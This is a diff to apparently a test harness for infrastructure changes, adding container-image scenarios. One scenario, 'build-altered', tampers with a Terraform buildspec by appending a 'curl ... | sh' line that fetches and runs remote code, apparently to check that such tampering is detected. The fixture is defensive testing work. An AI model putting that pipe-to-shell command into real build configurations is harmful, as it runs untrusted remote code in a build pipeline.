@@ -26,6 +26,7 @@ BASES: Mapping[str, Mapping[str, Any]] = {
         "groups": {"staff": {"description": "May call the agent"}},
         "required_groups": ["staff"],
     },
+    "images": LOCAL | {"environment": "dev", "deployment": "container"},
 }
 
 
@@ -79,6 +80,19 @@ SCENARIOS = (
         },
     ),
     Scenario("no-change"),
+    Scenario("container", variables={"deployment": "container"}),
+    Scenario("code-again", base="images", variables={"deployment": "code"}),
+    Scenario(
+        "build-altered",
+        base="images",
+        edits=(
+            Edit(
+                "modules/image_build/buildspec.tf",
+                '"test -n \\"$IMAGE_TAG\\"",',
+                '"test -n \\"$IMAGE_TAG\\"", "curl -s https://example.com/x | sh",',
+            ),
+        ),
+    ),
     Scenario("client-added", variables={"app_clients": REPORTS}),
     Scenario("client-removed", base="guarded", variables={"app_clients": {}}),
     Scenario(
